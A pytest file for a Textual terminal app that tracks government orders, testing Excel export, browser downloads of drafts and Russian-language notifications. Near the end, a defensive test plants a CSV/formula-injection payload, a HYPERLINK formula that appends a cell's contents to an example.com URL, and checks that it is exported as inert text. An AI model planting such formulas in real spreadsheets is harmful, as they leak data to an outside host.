"""Files the desk makes: Ctrl+E exports the orders shown to .xlsx, and every draft reaches the clerk.

In a terminal the file is saved in the drafts folder and its path shown; served in a browser
(`tracker serve`) it is handed to the browser as a download through Textual's deliver_binary.
"Served" is faked where Textual decides it: the driver's `is_web`, and the driver's delivery
records what it was given instead of streaming it to textual-serve.
"""
from __future__ import annotations

import io
from dataclasses import dataclass
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from textual import events
from textual.drivers.headless_driver import HeadlessDriver
from textual.widgets import Input
from tui_helpers import SIZE, TODAY, notifications, settle, type_text

from tracker.control.export import EXPORT_HEADER
from tracker.root import compose
from tui.app import make_app
from tui.screens.drafts import DraftsScreen
from tui.screens.orders import OrdersScreen
from tui.widgets.orders_table import OrdersTable

XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SAMPLES = Path(__file__).resolve().parents[2] / "tracker" / "samples" / "acts"


@dataclass
class Delivered:
    data: bytes
    filename: str
    mime_type: str | None


@pytest.fixture
def browser(monkeypatch) -> list[Delivered]:
    """The desk runs as if served: its driver is a web driver, and what it delivers is kept here."""
    delivered: list[Delivered] = []

    def deliver_binary(self, binary, *, delivery_key, save_path, open_method="download", encoding=None,
                       mime_type=None, name=None):
        delivered.append(Delivered(binary.read(), save_path.name, mime_type))
        binary.close()

    monkeypatch.setattr(HeadlessDriver, "is_web", property(lambda self: True))
    monkeypatch.setattr(HeadlessDriver, "deliver_binary", deliver_binary)
    return delivered


def sheet_rows(source: Path | bytes) -> list[list[object]]:
    book = load_workbook(io.BytesIO(source) if isinstance(source, bytes) else source)
    assert book.sheetnames == ["Поручения"]
    return [list(row) for row in book["Поручения"].iter_rows(values_only=True)]


def shown_codes(app) -> list[str]:
    table = app.screen.query_one(OrdersTable)
    return [str(key.value)[:8] for key in table.rows]


async def open_overdue_orders(pilot) -> None:
    await pilot.press("f3")
    await pilot.pause()
    assert isinstance(pilot.app.screen, OrdersScreen)
    await pilot.press("ctrl+o")  # the filter «просроченные»
    await pilot.pause()


async def test_ctrl_e_in_a_terminal_saves_the_filtered_orders_in_the_drafts_folder(fake, tmp_path):
    app = make_app(fake, today=TODAY, drafts_dir=tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        await open_overdue_orders(pilot)
        shown = shown_codes(app)
        await pilot.press("ctrl+e")
        await settle(pilot)
        saved = tmp_path / "поручения-2026-11-02.xlsx"
        assert any(str(saved) in note and "Выгружено поручений: 3" in note for note in notifications(app))
    rows = sheet_rows(saved)
    assert rows[0] == EXPORT_HEADER
    assert [row[0] for row in rows[1:]] == shown and len(shown) == 3  # the orders shown, in their order
    assert all(row[8] == "да" for row in rows[1:])  # «Просрочено»
    assert all(isinstance(row[4], datetime) for row in rows[1:])  # «Срок» is a date Excel can sort by


async def test_a_second_export_does_not_overwrite_the_first(fake, tmp_path):
    app = make_app(fake, today=TODAY, drafts_dir=tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        await open_overdue_orders(pilot)
        await pilot.press("ctrl+e")
        await settle(pilot)
        await pilot.press("ctrl+o")  # every open order now
        await pilot.pause()
        await pilot.press("ctrl+e")
        await settle(pilot)
    first, second = tmp_path / "поручения-2026-11-02.xlsx", tmp_path / "поручения-2026-11-02-2.xlsx"
    assert len(sheet_rows(first)) == 1 + 3 and len(sheet_rows(second)) > 1 + 3


async def test_ctrl_e_exports_from_the_search_field_too(fake, tmp_path):
    app = make_app(fake, today=TODAY, drafts_dir=tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        await pilot.press("f3", "slash")
        await type_text(pilot, "Госпаблики")
        await pilot.pause()
        assert isinstance(app.focused, Input)
        await pilot.press("ctrl+e")
        await settle(pilot)
    rows = sheet_rows(tmp_path / "поручения-2026-11-02.xlsx")
    assert [row[10] for row in rows[1:]] == ["Подключить учреждения к системе «Госпаблики»."]
    assert rows[1][3] == "Министерство здравоохранения; Министерство цифрового развития"


async def test_nothing_to_export_says_so_and_writes_no_file(fake, tmp_path):
    app = make_app(fake, today=TODAY, drafts_dir=tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        await pilot.press("f3", "slash")
        await type_text(pilot, "такого нет нигде")
        await pilot.press("ctrl+e")
        await settle(pilot)
        assert any("выгружать нечего" in note for note in notifications(app))
    assert list(tmp_path.iterdir()) == []


async def test_served_in_a_browser_ctrl_e_is_a_download_and_leaves_nothing_on_the_server(fake, tmp_path, browser):
    app = make_app(fake, today=TODAY, drafts_dir=tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        await open_overdue_orders(pilot)
        shown = shown_codes(app)
        await pilot.press("ctrl+e")
        await settle(pilot)
        assert any("браузер скачивает файл поручения-2026-11-02.xlsx" in note for note in notifications(app))
    [download] = browser
    assert download.filename == "поручения-2026-11-02.xlsx" and download.mime_type == XLSX_MIME
    rows = sheet_rows(download.data)
    assert rows[0] == EXPORT_HEADER and [row[0] for row in rows[1:]] == shown
    assert list(tmp_path.iterdir()) == []


@pytest.fixture
def services(tmp_path: Path):
    app = compose(tmp_path / "desk.db", user="делопроизводитель",
                  clock=lambda: datetime.combine(TODAY, datetime.min.time()))
    yield app
    app.close()


async def test_the_export_carries_each_orders_full_text_as_the_cli_export_does(services, tmp_path):
    long_text = "Обеспечить " + "размещение сведений о ходе работ, " * 12 + "ежемесячно."
    services.control.create_order(None, "7", long_text, ["Министерство культуры"], due=date(2026, 12, 1))
    app = make_app(services.control, today=TODAY, drafts_dir=tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        await pilot.press("f3")
        await pilot.pause()
        await pilot.press("ctrl+e")
        await settle(pilot)
    rows = sheet_rows(tmp_path / "поручения-2026-11-02.xlsx")
    assert len(long_text) > 200 and [row[10] for row in rows[1:]] == [long_text]


async def test_in_a_terminal_a_draft_stays_in_its_folder_and_is_not_delivered(services, tmp_path, monkeypatch):
    handed: list[object] = []
    monkeypatch.setattr(HeadlessDriver, "deliver_binary", lambda self, binary, **options: handed.append(binary))
    app = make_app(services.control, registry=services.registry, drafting=services.drafting, today=TODAY,
                   drafts_dir=tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        await pilot.press("f6")
        await pilot.pause()
        assert isinstance(app.screen, DraftsScreen)
        await pilot.press("ctrl+g")
        await settle(pilot)
        out = tmp_path / "проект-постановления-2026-11-02.docx"
        assert any(str(out) in note for note in notifications(app))
    assert out.exists() and handed == []


async def test_served_in_a_browser_every_generated_draft_is_a_download(services, tmp_path, browser):
    app = make_app(services.control, registry=services.registry, drafting=services.drafting, today=TODAY,
                   drafts_dir=tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        await pilot.press("f6")
        await pilot.pause()
        await pilot.press("ctrl+g")
        await settle(pilot)
        assert any("браузер скачивает" in note for note in notifications(app))
    out = tmp_path / "проект-постановления-2026-11-02.docx"
    names = [download.filename for download in browser]
    assert names[0] == out.name and browser[0].data == out.read_bytes()
    assert browser[0].mime_type == "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    assert [Path(name).suffix for name in names[1:]] == [".xlsx"]  # the quarterly draft's change sheet


async def test_a_formula_in_an_orders_text_reaches_excel_as_text(fake, tmp_path):
    act = fake.add_act("распоряжение", "1-р", date(2026, 10, 1), "О формулах")
    formula = '=HYPERLINK("http://example.com/?"&A1,"нажмите")'
    fake.add_order(act, "1", formula, ["Министерство культуры"], date(2026, 12, 1))
    app = make_app(fake, today=TODAY, drafts_dir=tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        await pilot.press("f3", "slash")
        await type_text(pilot, "HYPERLINK")
        await pilot.press("ctrl+e")
        await settle(pilot)
    sheet = load_workbook(tmp_path / "поручения-2026-11-02.xlsx")["Поручения"]
    cell = sheet["K2"]
    assert cell.value == formula and cell.data_type == "s" and cell.quotePrefix


async def test_a_download_the_browser_did_not_get_is_reported_in_russian(fake):
    app = make_app(fake, today=TODAY)
    async with app.run_test(size=SIZE) as pilot:
        app.post_message(events.DeliveryFailed(key="k", exception=OSError("pipe"), name="поручения.xlsx"))
        await pilot.pause()
        assert "Файл «поручения.xlsx» не передан браузеру: повторите действие." in notifications(app)
